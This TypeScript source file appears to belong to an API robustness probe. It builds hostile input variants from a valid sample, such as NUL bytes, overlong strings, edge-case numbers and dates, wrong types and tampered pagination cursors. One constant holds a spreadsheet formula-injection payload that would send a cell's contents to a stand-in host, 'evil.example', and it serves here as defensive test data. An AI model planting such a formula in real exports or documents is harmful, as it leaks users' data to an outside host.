/** One input derived from a valid sample, and what was done to it (for the report). */
export interface Variant {
  /** The kind of hostility, e.g. `NUL`, `lone surrogate`, `empty object`; failures are grouped by it. */
  kind: string;
  /** Where in the input, e.g. `filters.query`; empty for the whole input. */
  path: string;
  input: unknown;
}

export type Path = (string | number)[];

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const DATE_LIKE = /^[+-]?\d{4,6}-\d{2}-\d{2}/;

function stringVariants(value: string, inCursor: boolean): [string, unknown][] {
  const out: [string, unknown][] = [
    ['NUL', value ? `${value.slice(0, 1)}\u0000${value.slice(1)}` : 'a\u0000b'],
    ['lone surrogate', 'x\ud800'],
    ['100,000 characters', 'a'.repeat(100_000)],
    ['spreadsheet formula', FORMULA],
    ['empty string', ''],
    ['whitespace only', '   \t '],
  ];
  if (DATE_LIKE.test(value)) {
    out.push(['date 0000-01-01', '0000-01-01'], ['date +275760-09-13', '+275760-09-13'], ['date garbage', '2026-13-45'], ['date garbage', 'yesterday']);
  }
  if (inCursor) {
    out.push(['cursor garbage', 'garbage'], ['cursor tampered', tamper(value)]);
  }
  return out;
}

/** The value with its middle character changed: what a hand-edited page link looks like. */
function tamper(value: string): string {
  if (!value) return '~';
  const i = Math.floor(value.length / 2);
  const c = value[i] === 'A' ? 'B' : 'A';
  return value.slice(0, i) + c + value.slice(i + 1);
}

const NUMBERS: [string, number][] = [
  ['number -1', -1],
  ['number 0', 0],
  ['number 1.5', 1.5],
  ['number 2**53', 2 ** 53],
  ['number 1e308', 1e308],
  ['number NaN', Number.NaN],
  ['number Infinity', Number.POSITIVE_INFINITY],
];

const DATES: [string, Date][] = [
  ['Invalid Date', new Date(Number.NaN)],
  ['date 0000-01-01', new Date('0000-01-01T00:00:00Z')],
  ['date +275760-09-13', new Date(8.64e15)],
];

function wrongTypes(value: unknown): [string, unknown][] {
  const out: [string, unknown][] = [
    ['wrong type: null', null],
    ['wrong type: array', [value]],
    ['wrong type: nested object', { nested: { deeper: value } }],
  ];
  if (typeof value === 'string') out.push(['wrong type: number', 42]);
  else if (typeof value === 'number') out.push(['wrong type: string', String(value)]);
  else out.push(['wrong type: string', 'x']);
  return out;
}

/**
 * A copy of `root` with the value at `path` replaced. An undefined value leaves the field out,
 * unless `keepUndefined` (superjson sends an explicit undefined as such).
 */
export function setAt(root: unknown, path: Path, value: unknown, keepUndefined = false): unknown {
  if (path.length === 0) return value;
  const [head, ...rest] = path;
  if (Array.isArray(root)) {
    const copy = [...root];
    copy[head as number] = setAt(copy[head as number], rest, value, keepUndefined);
    return copy;
  }
  const copy = { ...(root as Record<string, unknown>) };
  if (rest.length === 0 && value === undefined && !keepUndefined) delete copy[head as string];
  else copy[head as string] = setAt(copy[head as string], rest, value, keepUndefined);
  return copy;
}

/**
 * Every hostile input the probe sends, derived from a valid sample by walking it: each string leaf
 * gets a NUL, a lone surrogate, 100,000 characters, a formula, empty and blank; each number the
 * edges of the number line; each date-like value dates Postgres cannot store and garbage; each
 * object `{}` and an unknown key; each field the wrong type or left out; cursors garbage and
 * tampered; the whole input undefined, null, a string.
 */
export function hostileVariants(sample: unknown): Variant[] {
  const out: Variant[] = [];
  const add = (kind: string, path: Path, value: unknown) => out.push({ kind, path: path.join('.'), input: setAt(sample, path, value) });

  const walk = (value: unknown, path: Path, inCursor: boolean) => {
    if (path.length > 0) {
      for (const [kind, wrong] of wrongTypes(value)) add(kind, path, wrong);
      add('field left out', path, undefined);
    }
    if (typeof value === 'string') {
      for (const [kind, v] of stringVariants(value, inCursor)) add(kind, path, v);
    } else if (typeof value === 'number') {
      for (const [kind, v] of NUMBERS) add(kind, path, v);
      if (inCursor) add('cursor garbage', path, 'garbage');
    } else if (value instanceof Date) {
      for (const [kind, v] of DATES) add(kind, path, v);
    } else if (Array.isArray(value)) {
      add('empty array', path, []);
      if (value.length > 0) add('1,001 elements', path, Array.from({ length: 1001 }, () => value[0]));
      value.forEach((item, i) => walk(item, [...path, i], inCursor));
    } else if (value !== null && typeof value === 'object') {
      add('empty object', path, {});
      add('unknown key', path, { ...value, probeUnknownKey: 'x' });
      if (inCursor) add('cursor garbage', path, 'garbage');
      for (const [key, child] of Object.entries(value)) walk(child, [...path, key], inCursor || key === 'cursor');
    }
  };
  walk(sample, [], false);

  // An update that changes nothing: only the ids that say what to update, every object emptied.
  if (sample !== null && typeof sample === 'object' && !Array.isArray(sample)) {
    const ids = Object.entries(sample).filter(([key]) => /(^id|Id|^ids)$/.test(key));
    if (ids.length > 0) {
      const nothing = Object.fromEntries([
        ...ids,
        ...Object.entries(sample).filter(([, v]) => v !== null && typeof v === 'object' && !Array.isArray(v)).map(([k]) => [k, {}]),
      ]);
      out.push({ kind: 'nothing to change', path: '', input: nothing });
    }
  }

  // Page links made up from nothing, for lists whose sample has none to tamper with.
  if (sample !== null && typeof sample === 'object' && !Array.isArray(sample) && !('cursor' in sample)) {
    for (const garbage of ['garbage', 12345, { value: 'x', id: 'y' }, { at: 'garbage', id: 'x' }, { createdAt: 'garbage', id: 1 }]) {
      add('cursor garbage', ['cursor'], garbage);
    }
  }
  for (const [kind, whole] of [
    ['whole input: undefined', undefined],
    ['whole input: null', null],
    ['whole input: a string', 'a string'],
    ['whole input: array', []],
  ] as const) {
    out.push({ kind, path: '', input: whole });
  }
  return out;
}
